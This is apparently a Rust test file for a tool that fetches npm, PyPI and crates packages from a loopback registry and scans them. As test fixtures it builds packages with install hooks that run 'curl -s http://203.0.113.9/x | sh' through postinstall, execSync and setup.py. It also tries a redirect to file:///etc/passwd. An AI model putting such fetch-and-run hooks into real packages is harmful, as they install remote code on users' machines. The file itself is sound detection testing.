//! Packages from a registry on loopback: what is announced, what comes, and what is found in it.
#![expect(clippy::unwrap_used, reason = "tests")]

mod server;

use std::io::Write;
use std::os::unix::fs::PermissionsExt;
use std::time::Duration;

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use defenseclaw_detect::scan::Scanner;
use defenseclaw_fetch::{FetchError, Fetched, ask, fetch, scan};
use defenseclaw_model::decision::Severity;
use defenseclaw_model::package::PackageState;
use defenseclaw_model::scan::ScanReport;
use server::{Reply, Server};
use sha2::{Digest, Sha256, Sha512};

/// A tar.gz of these files.
fn tarball(files: &[(&str, &str)]) -> Vec<u8> {
    let mut archive = tar::Builder::new(flate2::write::GzEncoder::new(
        Vec::new(),
        flate2::Compression::fast(),
    ));
    for (path, text) in files {
        let mut header = tar::Header::new_gnu();
        header.set_size(text.len() as u64);
        header.set_mode(0o644);
        header.set_cksum();
        archive.append_data(&mut header, path, text.as_bytes()).unwrap();
    }
    archive.into_inner().unwrap().finish().unwrap()
}

fn wheel(files: &[(&str, &str)]) -> Vec<u8> {
    let mut archive = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    for (path, text) in files {
        archive
            .start_file(*path, zip::write::SimpleFileOptions::default())
            .unwrap();
        archive.write_all(text.as_bytes()).unwrap();
    }
    archive.finish().unwrap().into_inner()
}

fn hex(bytes: &[u8]) -> String {
    Sha256::digest(bytes)
        .iter()
        .map(|byte| format!("{byte:02x}"))
        .collect()
}

fn npm(server: &Server, body: &[u8], announced: &[u8]) {
    let integrity = STANDARD.encode(Sha512::digest(announced));
    let tarball = format!("{}/pad/-/pad-1.0.0.tgz", server.base);
    let document = format!(
        r#"{{"name":"pad","version":"1.0.0","dist":{{"tarball":"{tarball}","integrity":"sha512-{integrity}"}}}}"#
    );
    server.found("/pad/1.0.0", document.clone());
    server.found("/pad/latest", document);
    server.found("/pad/-/pad-1.0.0.tgz", body);
}

fn get(server: &Server, package: &str) -> Result<Fetched, FetchError> {
    fetch(
        &package.parse().unwrap(),
        Some(&server.base),
        &std::env::temp_dir(),
    )
}

fn looked_into(fetched: &Fetched) -> ScanReport {
    scan(fetched, &Scanner::embedded().unwrap()).unwrap()
}

const CLEAN: &[(&str, &str)] = &[
    (
        "package/package.json",
        r#"{"name":"pad","version":"1.0.0","scripts":{"test":"node test.js"}}"#,
    ),
    (
        "package/index.js",
        "module.exports = (text, n) => text.padStart(n);\n",
    ),
];

#[test]
fn an_honest_package_is_clean_and_its_twin_with_an_install_script_is_not() {
    let server = Server::start();
    let body = tarball(CLEAN);
    npm(&server, &body, &body);
    let fetched = get(&server, "npm:pad").unwrap();
    assert_eq!(fetched.version, "1.0.0");
    assert!(fetched.integrity.starts_with("sha512-"));
    let report = looked_into(&fetched);
    assert_eq!(
        (report.verdict.severity, report.files),
        (Severity::None, 3),
        "{:?}",
        report.findings
    );

    let script =
        r#"{"name":"pad","version":"1.0.0","scripts":{"postinstall":"curl -s http://203.0.113.9/x | sh"}}"#;
    let body = tarball(&[("package/package.json", script), CLEAN[1]]);
    npm(&server, &body, &body);
    let report = looked_into(&get(&server, "npm:pad@1.0.0").unwrap());
    assert!(report.verdict.severity >= Severity::High, "{:?}", report.findings);
    assert!(
        report
            .findings
            .iter()
            .any(|one| one.rule == "package.runs-at-install")
    );
}

#[test]
fn the_same_code_counts_where_an_installation_runs_it_and_less_in_a_library() {
    let server = Server::start();
    let code = "require('child_process').execSync('curl -s http://203.0.113.9/x | sh');\n";
    let severity = |manifest: &str| {
        let body = tarball(&[("package/package.json", manifest), ("package/setup.js", code)]);
        npm(&server, &body, &body);
        looked_into(&get(&server, "npm:pad").unwrap()).verdict.severity
    };
    let run = r#"{"name":"pad","version":"1.0.0","scripts":{"install":"node setup.js"}}"#;
    let kept = r#"{"name":"pad","version":"1.0.0","scripts":{"start":"node setup.js"}}"#;
    assert!(severity(run) >= Severity::High);
    assert_eq!(severity(kept), Severity::Medium);
}

#[test]
fn quarantine_is_closed_to_others_and_goes_with_its_owner() {
    let server = Server::start();
    let body = tarball(CLEAN);
    npm(&server, &body, &body);
    let fetched = get(&server, "npm:pad").unwrap();
    let folder = fetched.folder().to_owned();
    assert_eq!(
        std::fs::metadata(&folder).unwrap().permissions().mode() & 0o777,
        0o700
    );
    assert!(fetched.path.starts_with(&folder) && fetched.path.is_file());
    drop(fetched);
    assert!(!folder.exists());
}

#[test]
fn what_is_not_the_announced_file_is_refused() {
    let server = Server::start();
    npm(&server, &tarball(&CLEAN[..1]), &tarball(CLEAN));
    let error = get(&server, "npm:pad").unwrap_err();
    assert!(
        matches!(error, FetchError::Integrity { kind: "SHA-512", .. }),
        "{error}"
    );
    assert!(error.to_string().contains("Do not install it"));
    let weak = format!(
        r#"{{"version":"1.0.0","dist":{{"tarball":"{}/pad/-/pad-1.0.0.tgz","shasum":"x"}}}}"#,
        server.base
    );
    server.found("/pad/latest", weak);
    assert!(matches!(
        get(&server, "npm:pad").unwrap_err(),
        FetchError::Answer { .. }
    ));
}

#[test]
fn a_redirect_leads_only_where_it_may() {
    let server = Server::start();
    let body = tarball(CLEAN);
    npm(&server, &body, &body);
    server.found("/files/pad.tgz", body);
    server.serve("/pad/-/pad-1.0.0.tgz", Reply::Moved("/files/pad.tgz".to_owned()));
    assert!(get(&server, "npm:pad").is_ok());
    for away in [
        "http://files.example/pad.tgz",
        "file:///etc/passwd",
        "//files.example/x",
    ] {
        server.serve("/pad/-/pad-1.0.0.tgz", Reply::Moved(away.to_owned()));
        let error = get(&server, "npm:pad").unwrap_err();
        assert!(
            matches!(error, FetchError::Address { .. } | FetchError::Answer { .. }),
            "{away}: {error}"
        );
    }
    server.serve(
        "/pad/-/pad-1.0.0.tgz",
        Reply::Moved("/pad/-/pad-1.0.0.tgz".to_owned()),
    );
    let error = get(&server, "npm:pad").unwrap_err().to_string();
    assert!(error.contains("circles"), "{error}");
}

#[test]
fn a_registry_that_sends_elsewhere_is_not_followed_for_what_is_right() {
    let (server, other) = (Server::start(), Server::start());
    let body = tarball(CLEAN);
    npm(&other, &body, &body);
    // The twin: the same document by way of another path of the same host.
    npm(&server, &body, &body);
    server.serve("/pad/latest", Reply::Moved("/pad/1.0.0".to_owned()));
    assert!(get(&server, "npm:pad").is_ok());
    server.serve("/pad/latest", Reply::Moved(format!("{}/pad/latest", other.base)));
    let error = get(&server, "npm:pad").unwrap_err();
    assert!(matches!(error, FetchError::Elsewhere { .. }), "{error}");
    assert!(error.to_string().contains(&other.base), "{error}");
    assert!(other.heads().is_empty(), "nobody asked it");
}

#[test]
fn no_login_is_sent_and_none_is_taken() {
    let server = Server::start();
    let body = tarball(CLEAN);
    npm(&server, &body, &body);
    get(&server, "npm:pad").unwrap();
    let heads = server.heads();
    assert_eq!(heads.len(), 2);
    assert!(
        heads
            .iter()
            .all(|head| !head.contains("authorization") && !head.contains("cookie"))
    );
    let with_login = server.base.replace("http://", "http://me:secret@");
    let error = fetch(
        &"npm:pad".parse().unwrap(),
        Some(&with_login),
        &std::env::temp_dir(),
    )
    .unwrap_err();
    assert!(error.to_string().contains("login"), "{error}");
}

#[test]
fn a_registry_that_says_nothing_is_not_waited_for() {
    let server = Server::start();
    server.serve("/pad/latest", Reply::Silent);
    let asked = ask(
        &"npm:pad".parse().unwrap(),
        Some(&server.base),
        Duration::from_millis(300),
    );
    let error = asked.err().unwrap();
    assert!(matches!(error, FetchError::Network { .. }), "{error}");
    assert_eq!(error.state(), PackageState::Unreachable);
}

#[test]
fn what_is_too_large_or_not_there_is_said() {
    let server = Server::start();
    server.found("/pad/latest", vec![b' '; (16 << 20) + 1]);
    let error = get(&server, "npm:pad").unwrap_err();
    assert!(
        matches!(error, FetchError::TooLarge { bytes, .. } if bytes == 16 << 20),
        "{error}"
    );
    let error = get(&server, "npm:gone").unwrap_err().to_string();
    assert!(
        error.contains("404") && error.contains("no such package"),
        "{error}"
    );
}

#[test]
fn wheels_and_sources_come_from_an_index() {
    let server = Server::start();
    let clean = wheel(&[("pad/__init__.py", "def pad(text, n):\n    return text.rjust(n)\n")]);
    let setup = "import os\nfrom setuptools import setup\nos.system('curl -s http://203.0.113.9/x | sh')\nsetup(name='pad')\n";
    let sources = tarball(&[("pad-2.0/setup.py", setup), ("pad-2.0/pad/__init__.py", "")]);
    let list = |wheel_sum: &str| {
        format!(
            r#"{{"files":[{{"filename":"pad-1.0-py3-none-any.whl","url":"/f/pad-1.0.whl","hashes":{{"sha256":"{wheel_sum}"}}}},
                {{"filename":"pad-2.0.tar.gz","url":"pad-2.0.tar.gz","hashes":{{"sha256":"{}"}}}},
                {{"filename":"pad-3.0.tar.gz","url":"x","hashes":{{}},"yanked":"broken"}}]}}"#,
            hex(&sources)
        )
    };
    server.found("/pad/", list(&hex(&clean)));
    server.found("/f/pad-1.0.whl", clean);
    server.found("/pad/pad-2.0.tar.gz", sources.clone());
    let fetched = get(&server, "pypi:pad==1.0").unwrap();
    assert_eq!(looked_into(&fetched).verdict.severity, Severity::None);
    let newest = get(&server, "pypi:Pad").unwrap();
    assert_eq!(newest.version, "2.0");
    let report = looked_into(&newest);
    assert!(report.verdict.severity >= Severity::High, "{:?}", report.findings);
    server.found("/pad/", list(&"0".repeat(64)));
    assert!(matches!(
        get(&server, "pypi:pad==1.0").unwrap_err(),
        FetchError::Integrity { .. }
    ));
    assert!(matches!(
        get(&server, "pypi:pad==9").unwrap_err(),
        FetchError::NoRelease { .. }
    ));
}

#[test]
fn crates_come_from_a_sparse_index() {
    let server = Server::start();
    let plain = tarball(&[
        ("pads-1.0.0/Cargo.toml", "[package]\nname = \"pads\"\n"),
        ("pads-1.0.0/src/lib.rs", "pub fn pad() {}\n"),
    ]);
    server.found("/config.json", format!(r#"{{"dl":"{}/dl"}}"#, server.base));
    let lines = format!(
        "{{\"name\":\"pads\",\"vers\":\"1.0.0\",\"cksum\":\"{0}\"}}\n{{\"name\":\"pads\",\"vers\":\"1.1.0\",\"cksum\":\"{0}\",\"yanked\":true}}\n",
        hex(&plain)
    );
    server.found("/pa/ds/pads", lines);
    server.found("/dl/pads/1.0.0/download", plain);
    let fetched = get(&server, "crates:pads").unwrap();
    assert_eq!(fetched.version, "1.0.0", "what was yanked is not the newest");
    assert_eq!(looked_into(&fetched).verdict.severity, Severity::None);
}
